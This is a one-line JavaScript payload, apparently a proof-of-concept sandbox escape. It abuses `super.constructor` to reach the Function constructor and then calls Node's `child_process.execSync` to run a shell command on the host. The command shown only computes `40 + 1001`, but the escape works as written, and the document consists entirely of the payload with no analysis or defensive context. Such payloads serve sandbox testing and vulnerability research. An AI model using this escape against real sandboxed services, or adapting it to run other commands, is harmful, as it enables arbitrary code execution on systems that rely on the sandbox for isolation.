({__proto__:()=>{}, f(){ return super.constructor('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')() }}).f();
